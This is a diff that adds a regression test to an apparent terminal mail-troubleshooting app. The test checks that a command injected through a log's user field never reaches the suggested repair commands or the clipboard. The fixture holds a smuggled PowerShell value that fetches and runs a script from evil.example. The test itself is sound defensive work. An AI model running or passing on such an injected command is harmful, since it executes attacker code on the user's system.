@@ -62,3 +62,31 @@ async def test_escape_sequences_in_a_ticket_and_evidence_never_reach_the_termina
             assert RAW.findall(screen_text(app)) == []
     transcript = app.session.transcript() if app.session else ""
     assert not RAW.search(transcript.replace("\r\n", "\n"))
+
+
+HOSTILE_USER = "x; Invoke-Expression (iwr http://evil.example/p.ps1) #"
+IMAP_ROW = ("2017-05-04T09:12:44.518Z,0000000000001A2F,4,10.10.5.21:1993,10.10.5.20:61322,"
+            f"{HOSTILE_USER},1543,27,121,select,INBOX,R=OK;Rows=40211;Recent=0;"
+            "Msg=UidCorruptionDetected13;Unseen=1240,\n")
+
+
+async def test_the_copy_key_never_copies_a_command_built_from_a_hostile_log(make_app):
+    """Issue 13, item 1: the app's copy key put `New-MailboxRepairRequest -Mailbox x;
+    Invoke-Expression (...)` on the clipboard."""
+    app = make_app()
+    async with app.run_test(size=(120, 40)) as pilot:
+        await pilot.press("n", "escape", "e")
+        app.screen.query_one("#paste").text = IMAP_ROW
+        await pilot.press("ctrl+s")
+        await wait_for(pilot, lambda: app.session.evidence)
+        await pilot.press("escape")
+        if not isinstance(app.screen, ResultScreen):
+            await pilot.press("f")
+        await wait_for(pilot, lambda: isinstance(app.screen, ResultScreen))
+        assert app.screen.entry_id == "imap-uid-corruption"
+        commands = [command for command, _ in app.screen.commands]
+        assert not any("Invoke-Expression" in command for command in commands)
+        assert any(c.startswith("New-MailboxRepairRequest -Mailbox <mailbox>") for c in commands)
+        await pilot.press("c")
+        assert "Invoke-Expression" not in (app.clipboard or "")
+        assert "Notfilledin:<mailbox>notfilled:thecapturedvalue" in flat(app)
